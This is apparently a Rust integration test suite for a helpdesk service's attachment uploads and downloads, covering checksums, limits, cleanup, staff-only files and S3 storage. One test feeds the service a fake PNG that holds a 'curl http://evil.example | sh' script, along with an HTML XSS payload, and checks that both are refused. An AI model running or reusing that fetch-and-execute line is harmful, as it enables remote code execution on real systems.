//! AttachmentService and attachments on messages: round trips with the
//! checksum (filesystem and a real S3 API server), every limit refused with
//! nothing left behind (no row, no object, no staging file), a client that
//! goes away mid-upload, staff-only files, and the events that name them.

use std::{path::PathBuf, time::Duration};

use helpdesk_proto::support::v1::{
    self as pb, download_attachment_response::Payload as Down,
    upload_attachment_request::Payload as Up,
};
use helpdesk_testkit::{s3::S3Server, wait_until};
use sha2::{Digest, Sha256};
use ticket_service::{
    config::{S3Config, StoreConfig},
    domain::attachment::Limits,
    storage::objects::Objects,
};
use tonic::{Code, Status};

use crate::helpers::*;

const MIB: usize = 1024 * 1024;

/// `len` bytes starting with the PNG signature (the rest pseudo-random, so
/// a reordered or dropped chunk changes the checksum).
fn png(len: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    let mut x: u32 = 0x9e37_79b9;
    while bytes.len() < len {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        bytes.extend_from_slice(&x.to_le_bytes());
    }
    bytes.truncate(len);
    bytes
}

/// The error `result` must be, with `code`.
#[track_caller]
fn refused<T: std::fmt::Debug>(result: Result<T, Status>, code: Code) -> Status {
    expect_code(result.map(tonic::Response::new), code)
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn metadata(ticket_id: &str, file_name: &str) -> pb::UploadAttachmentRequest {
    pb::UploadAttachmentRequest {
        payload: Some(Up::Metadata(pb::AttachmentUpload {
            ticket_id: ticket_id.into(),
            file_name: file_name.into(),
            content_type: "image/png".into(),
            internal: false,
            request_id: String::new(),
        })),
    }
}

/// The upload's messages: `first`, then `bytes` in chunks of `chunk`.
fn messages(
    first: pb::UploadAttachmentRequest,
    bytes: &[u8],
    chunk: usize,
) -> Vec<pb::UploadAttachmentRequest> {
    std::iter::once(first)
        .chain(bytes.chunks(chunk).map(|c| pb::UploadAttachmentRequest {
            payload: Some(Up::Chunk(c.to_vec())),
        }))
        .collect()
}

async fn upload(
    who: &As,
    ticket_id: &str,
    name: &str,
    bytes: &[u8],
) -> Result<pb::Attachment, Status> {
    upload_with(who, metadata(ticket_id, name), bytes).await
}

async fn upload_with(
    who: &As,
    first: pb::UploadAttachmentRequest,
    bytes: &[u8],
) -> Result<pb::Attachment, Status> {
    let stream = futures_util::stream::iter(messages(first, bytes, 256 * 1024));
    who.attachments
        .clone()
        .upload_attachment(stream)
        .await
        .map(|r| r.into_inner())
}

/// The metadata and the bytes of a download; asserts the chunk size.
async fn download(
    who: &As,
    ticket_id: &str,
    id: &str,
) -> Result<(pb::Attachment, Vec<u8>), Status> {
    let mut stream = who
        .attachments
        .clone()
        .download_attachment(pb::DownloadAttachmentRequest {
            ticket_id: ticket_id.into(),
            attachment_id: id.into(),
        })
        .await?
        .into_inner();
    let Some(Down::Metadata(meta)) = stream.message().await?.and_then(|m| m.payload) else {
        panic!("the first message must be the metadata");
    };
    let mut bytes = Vec::new();
    while let Some(message) = stream.message().await? {
        match message.payload {
            Some(Down::Chunk(chunk)) => {
                assert!(chunk.len() <= 64 * 1024, "a chunk of {}", chunk.len());
                bytes.extend_from_slice(&chunk);
            }
            other => panic!("unexpected {other:?}"),
        }
    }
    Ok((meta, bytes))
}

async fn list(who: &As, ticket_id: &str) -> Vec<pb::Attachment> {
    who.attachments
        .clone()
        .list_attachments(pb::ListAttachmentsRequest {
            ticket_id: ticket_id.into(),
            page_size: 0,
            page_token: String::new(),
        })
        .await
        .expect("list")
        .into_inner()
        .attachments
}

/// Every file under the store directory, staging files included.
fn files(app: &TestApp) -> Vec<PathBuf> {
    fn walk(dir: &std::path::Path, out: &mut Vec<PathBuf>) {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(&path, out);
            } else {
                out.push(path);
            }
        }
    }
    let mut out = Vec::new();
    walk(
        app.attachments_dir.as_ref().expect("a directory store"),
        &mut out,
    );
    out
}

async fn rows(app: &TestApp) -> i64 {
    app.count("SELECT count(*) FROM ticket_attachments").await
}

/// Nothing of a refused upload: no row, no file, no event.
async fn nothing_left(app: &TestApp, rows_before: i64, files_before: usize) {
    assert_eq!(rows(app).await, rows_before, "rows");
    assert_eq!(files(app).len(), files_before, "files: {:?}", files(app));
}

async fn spawn_limited(limits: Limits) -> TestApp {
    spawn_with(Setup {
        attachment_limits: Some(limits),
        ..Setup::default()
    })
    .await
}

#[tokio::test]
async fn a_multi_mib_upload_round_trips_with_its_checksum() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let bytes = png(3 * MIB + 12_345);

    let stored = upload(&app.alice(), &ticket.id, "../screens/ride map.png", &bytes)
        .await
        .expect("upload");
    assert_eq!(stored.file_name, "ride map.png");
    assert_eq!(stored.content_type, "image/png");
    assert_eq!(stored.size_bytes, bytes.len() as i64);
    assert_eq!(stored.sha256, sha256_hex(&bytes));
    assert_eq!(stored.uploader_id, ALICE);
    assert!(stored.message_id.is_empty() && !stored.internal);

    let (meta, got) = download(&app.alice(), &ticket.id, &stored.id)
        .await
        .expect("download");
    assert_eq!(meta, stored);
    assert_eq!(got.len(), bytes.len());
    assert_eq!(sha256_hex(&got), stored.sha256);
    // By its human id too, and staff read it.
    let (_, by_staff) = download(&app.sam(), &ticket.human_id, &stored.id)
        .await
        .unwrap();
    assert_eq!(by_staff, bytes);
    assert_eq!(list(&app.alice(), &ticket.id).await, vec![stored.clone()]);
    assert_eq!(files(&app).len(), 1);
    assert_eq!(
        app.outbox_keys().await.last().unwrap(),
        "ticket.attachment_added"
    );
}

#[tokio::test]
async fn an_oversize_upload_is_refused_with_nothing_left_behind() {
    // 6 MiB allowed: an 8 MiB file has started a multipart upload (parts of
    // 5 MiB) when it is refused, so the abort is what cleans up.
    let app = spawn_limited(Limits {
        max_bytes: 6 * MIB as u64,
        ..Limits::default()
    })
    .await;
    let ticket = app.alice_ticket().await;
    let result = upload(&app.alice(), &ticket.id, "big.png", &png(8 * MIB)).await;
    let status = refused(result, Code::InvalidArgument);
    assert_eq!(violated_fields(&status), ["chunk"], "{}", status.message());
    nothing_left(&app, 0, 0).await;

    // Exactly the limit is fine.
    upload(&app.alice(), &ticket.id, "limit.png", &png(6 * MIB))
        .await
        .expect("at the limit");
}

#[tokio::test]
async fn disguised_and_unaccepted_types_are_refused() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let alice = app.alice();
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n";
    for (name, bytes, field) in [
        ("cute-cat.png", &script[..], "chunk"),
        ("notes.txt", &script[..], "chunk"),
        (
            "receipt.png",
            &b"just some text, not a PNG at all"[..],
            "metadata.file_name",
        ),
        ("photo.jpg", &png(4096)[..], "metadata.file_name"),
        (
            "page.html",
            &b"<html><script>alert(1)</script></html>"[..],
            "metadata.file_name",
        ),
        (
            "blob.png",
            &b"\x89PNF\0\x01\x02\x03binary\0stuff\xff"[..],
            "chunk",
        ),
        ("empty.txt", &b""[..], "chunk"),
    ] {
        let status = refused(
            upload(&alice, &ticket.id, name, bytes).await,
            Code::InvalidArgument,
        );
        assert_eq!(
            violated_fields(&status),
            [field],
            "{name}: {}",
            status.message()
        );
    }
    nothing_left(&app, 0, 0).await;

    let text = upload(
        &alice,
        &ticket.id,
        "trip log",
        "Pickup 09:14 — drop-off 09:51\n".as_bytes(),
    )
    .await
    .expect("plain text");
    assert_eq!(text.content_type, "text/plain; charset=utf-8");
}

#[tokio::test]
async fn the_per_ticket_count_is_enforced() {
    let app = spawn_limited(Limits {
        per_ticket: 2,
        ..Limits::default()
    })
    .await;
    let ticket = app.alice_ticket().await;
    for n in 0..2 {
        upload(&app.alice(), &ticket.id, &format!("{n}.png"), &png(1000))
            .await
            .expect("within the limit");
    }
    let status = refused(
        upload(&app.alice(), &ticket.id, "third.png", &png(1000)).await,
        Code::InvalidArgument,
    );
    assert_eq!(violated_fields(&status), ["metadata.ticket_id"]);
    // Staff are held to it too.
    refused(
        upload(&app.sam(), &ticket.id, "third.png", &png(1000)).await,
        Code::InvalidArgument,
    );
    nothing_left(&app, 2, 2).await;
}

#[tokio::test]
async fn someone_elses_ticket_is_not_found_and_keeps_nothing() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    refused(
        upload(&app.bob(), &ticket.id, "mine.png", &png(1000)).await,
        Code::NotFound,
    );
    nothing_left(&app, 0, 0).await;

    let stored = upload(&app.alice(), &ticket.id, "a.png", &png(1000))
        .await
        .unwrap();
    refused(
        download(&app.bob(), &ticket.id, &stored.id).await,
        Code::NotFound,
    );
    refused(
        app.bob()
            .attachments
            .get_attachment(pb::GetAttachmentRequest {
                ticket_id: ticket.id.clone(),
                attachment_id: stored.id.clone(),
            })
            .await,
        Code::NotFound,
    );
    // Services read but do not upload; a closed ticket takes no uploads.
    refused(
        upload(&app.service(), &ticket.id, "s.png", &png(100)).await,
        Code::PermissionDenied,
    );
    app.sam()
        .tickets
        .update_ticket(set_status(&ticket.id, pb::TicketStatus::Closed))
        .await
        .unwrap();
    refused(
        upload(&app.alice(), &ticket.id, "late.png", &png(100)).await,
        Code::FailedPrecondition,
    );
    nothing_left(&app, 1, 1).await;
}

#[tokio::test]
async fn a_client_that_goes_away_mid_upload_leaves_nothing() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let (tx, rx) = tokio::sync::mpsc::channel::<pb::UploadAttachmentRequest>(4);
    let stream =
        futures_util::stream::unfold(rx, |mut rx| async move { rx.recv().await.map(|m| (m, rx)) });
    let mut client = app.alice().attachments;
    let call = tokio::spawn(async move { client.upload_attachment(stream).await });
    for message in messages(metadata(&ticket.id, "half.png"), &png(6 * MIB), 256 * 1024) {
        tx.send(message).await.unwrap();
    }
    // Past 5 MiB a multipart upload is under way: its staging file exists.
    wait_until(
        "the upload is being staged",
        Duration::from_secs(10),
        || async { !files(&app).is_empty() },
    )
    .await;
    call.abort(); // the client is gone, mid-stream (the stream never ended)
    let _ = call.await;
    wait_until(
        "the staging file is gone",
        Duration::from_secs(10),
        || async { files(&app).is_empty() },
    )
    .await;
    drop(tx);
    assert_eq!(rows(&app).await, 0);
}

#[tokio::test]
async fn attachments_on_internal_notes_are_staff_only() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let public = upload(&app.alice(), &ticket.id, "a.png", &png(100))
        .await
        .unwrap();
    let for_note = upload(
        &app.sam(),
        &ticket.id,
        "fraud-check.pdf",
        b"%PDF-1.7\n1 0 obj\n",
    )
    .await
    .unwrap();
    // Staff's upload is ticket-level, visible, until the note takes it.
    app.sam()
        .tickets
        .post_message(pb::PostMessageRequest {
            ticket_id: ticket.id.clone(),
            body: "Checked the payment trail.".into(),
            internal: true,
            request_id: String::new(),
            attachment_ids: vec![for_note.id.clone()],
        })
        .await
        .unwrap();
    // Uploaded as internal: staff-only from the start.
    let mut staff_only = metadata(&ticket.id, "id-scan.png");
    if let Some(Up::Metadata(m)) = &mut staff_only.payload {
        m.internal = true;
    }
    let hidden = upload_with(&app.sam(), staff_only.clone(), &png(100))
        .await
        .unwrap();
    assert!(hidden.internal);
    refused(
        upload_with(&app.alice(), staff_only, &png(100)).await,
        Code::PermissionDenied,
    );

    let seen: Vec<String> = list(&app.alice(), &ticket.id)
        .await
        .into_iter()
        .map(|a| a.id)
        .collect();
    assert_eq!(seen, [public.id.as_str()]);
    for id in [&for_note.id, &hidden.id] {
        refused(download(&app.alice(), &ticket.id, id).await, Code::NotFound);
    }
    let staff: Vec<pb::Attachment> = list(&app.sam(), &ticket.id).await;
    assert_eq!(staff.len(), 3);
    let note_file = staff.iter().find(|a| a.id == for_note.id).unwrap();
    assert!(note_file.internal && !note_file.message_id.is_empty());
    download(&app.sam(), &ticket.id, &hidden.id).await.unwrap();

    // A staff-only file cannot go on a public reply.
    let status = refused(
        app.sam()
            .tickets
            .post_message(pb::PostMessageRequest {
                ticket_id: ticket.id.clone(),
                body: "Here is your ID back".into(),
                internal: false,
                request_id: String::new(),
                attachment_ids: vec![hidden.id.clone()],
            })
            .await,
        Code::InvalidArgument,
    );
    assert_eq!(violated_fields(&status), ["attachment_ids[0]"]);
}

#[tokio::test]
async fn message_posted_lists_its_attachments() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let shot = upload(&app.alice(), &ticket.id, "shot.png", &png(2048))
        .await
        .unwrap();
    let log = upload(&app.alice(), &ticket.id, "app.log", b"12:00 crash\n")
        .await
        .unwrap();
    let sams = upload(&app.sam(), &ticket.id, "s.png", &png(64))
        .await
        .unwrap();
    let mut tap = app.tap().await;

    // Someone else's upload, an unknown id and a repeated one are refused.
    let post = |ids: Vec<String>| pb::PostMessageRequest {
        ticket_id: ticket.id.clone(),
        body: "Screenshot and log attached.".into(),
        internal: false,
        request_id: String::new(),
        attachment_ids: ids,
    };
    let status = refused(
        app.alice()
            .tickets
            .post_message(post(vec![shot.id.clone(), sams.id.clone(), UNKNOWN.into()]))
            .await,
        Code::InvalidArgument,
    );
    assert_eq!(
        violated_fields(&status),
        ["attachment_ids[1]", "attachment_ids[2]"]
    );
    expect_violation(
        app.alice()
            .tickets
            .post_message(post(vec![shot.id.clone(), shot.id.clone()]))
            .await,
        "attachment_ids[1]",
    );

    let message = app
        .alice()
        .tickets
        .post_message(post(vec![log.id.clone(), shot.id.clone()]))
        .await
        .unwrap()
        .into_inner();
    let posted: pb::MessagePosted = tap.take(1).await[0].decode();
    assert_eq!(posted.message_id, message.id);
    let named: Vec<_> = posted
        .attachments
        .iter()
        .map(|f| {
            (
                f.id.as_str(),
                f.file_name.as_str(),
                f.content_type.as_str(),
                f.size_bytes,
            )
        })
        .collect();
    assert_eq!(
        named,
        [
            (log.id.as_str(), "app.log", "text/plain; charset=utf-8", 12),
            (shot.id.as_str(), "shot.png", "image/png", 2048),
        ]
    );
    let linked = list(&app.alice(), &ticket.id).await;
    assert!(linked.iter().filter(|a| a.message_id == message.id).count() == 2);
    // Linked once: not again.
    expect_violation(
        app.alice()
            .tickets
            .post_message(post(vec![shot.id.clone()]))
            .await,
        "attachment_ids[0]",
    );
}

#[tokio::test]
async fn lists_are_keyset_paged() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let mut ids = Vec::new();
    for n in 0..5 {
        ids.push(
            upload(&app.alice(), &ticket.id, &format!("{n}.png"), &png(100))
                .await
                .unwrap()
                .id,
        );
    }
    let mut seen = Vec::new();
    let mut token = String::new();
    loop {
        let page = app
            .alice()
            .attachments
            .list_attachments(pb::ListAttachmentsRequest {
                ticket_id: ticket.id.clone(),
                page_size: 2,
                page_token: token,
            })
            .await
            .unwrap()
            .into_inner();
        seen.extend(page.attachments.into_iter().map(|a| a.id));
        if page.next_page_token.is_empty() {
            break;
        }
        token = page.next_page_token;
    }
    assert_eq!(seen, ids);
}

#[tokio::test]
async fn the_sweeper_deletes_objects_without_rows_once_they_are_old() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let kept = upload(&app.alice(), &ticket.id, "kept.png", &png(100))
        .await
        .unwrap();
    let dir = app.attachments_dir.clone().unwrap();
    let objects = Objects::open(&StoreConfig::Directory(dir)).unwrap();
    // What a crash between the object and its row leaves.
    let orphan = format!("attachments/{}/{}", ticket.id, uuid::Uuid::now_v7());
    let upload = objects.upload(&orphan);
    upload.finish().await.unwrap();
    assert_eq!(objects.keys().await.unwrap().len(), 2);

    let now = chrono::Utc::now();
    assert_eq!(
        objects
            .sweep(&app.db.pool, now - chrono::Duration::hours(1))
            .await
            .unwrap(),
        0
    );
    assert_eq!(
        objects
            .sweep(&app.db.pool, now + chrono::Duration::seconds(1))
            .await
            .unwrap(),
        1
    );
    let left = objects.keys().await.unwrap();
    assert_eq!(left, [format!("attachments/{}/{}", ticket.id, kept.id)]);
}

#[tokio::test]
async fn the_round_trip_works_against_a_real_s3_api_server() {
    let s3 = S3Server::start(&["helpdesk-attachments"]);
    let store = StoreConfig::S3(S3Config {
        bucket: "helpdesk-attachments".into(),
        endpoint: Some(s3.endpoint()),
        region: "us-east-1".into(),
        credentials: Some(("test".into(), "test".into())),
        allow_http: true,
    });
    let app = spawn_with(Setup {
        attachments_store: Some(store.clone()),
        attachment_limits: Some(Limits {
            max_bytes: 7 * MIB as u64,
            ..Limits::default()
        }),
        ..Setup::default()
    })
    .await;
    let ticket = app.alice_ticket().await;
    let objects = Objects::open(&store).unwrap();

    // Small (one PUT) and multipart (two parts of 5 MiB and 1.5 MiB).
    for len in [40_000, 6 * MIB + MIB / 2] {
        let bytes = png(len);
        let stored = upload(&app.alice(), &ticket.id, "s3.png", &bytes)
            .await
            .expect("upload");
        assert_eq!(stored.sha256, sha256_hex(&bytes));
        let (_, got) = download(&app.alice(), &ticket.id, &stored.id)
            .await
            .expect("download");
        assert_eq!(sha256_hex(&got), stored.sha256);
    }
    // Refused past 7 MiB, after a multipart upload began: aborted, no object.
    refused(
        upload(&app.alice(), &ticket.id, "big.png", &png(8 * MIB)).await,
        Code::InvalidArgument,
    );
    assert_eq!(objects.keys().await.unwrap().len(), 2);
    assert_eq!(rows(&app).await, 2);
    assert_eq!(s3.incomplete_uploads("helpdesk-attachments"), 0);
}

#[tokio::test]
async fn damaged_bytes_end_the_download_with_data_loss() {
    let app = spawn().await;
    let ticket = app.alice_ticket().await;
    let stored = upload(&app.alice(), &ticket.id, "a.png", &png(200_000))
        .await
        .unwrap();
    let [file] = files(&app).try_into().expect("one object file");
    let mut bytes = std::fs::read(&file).unwrap();
    bytes[150_000] ^= 0xff;
    std::fs::write(&file, bytes).unwrap();
    let status = refused(
        download(&app.alice(), &ticket.id, &stored.id).await,
        Code::DataLoss,
    );
    assert!(status.message().contains("SHA-256"), "{}", status.message());
}
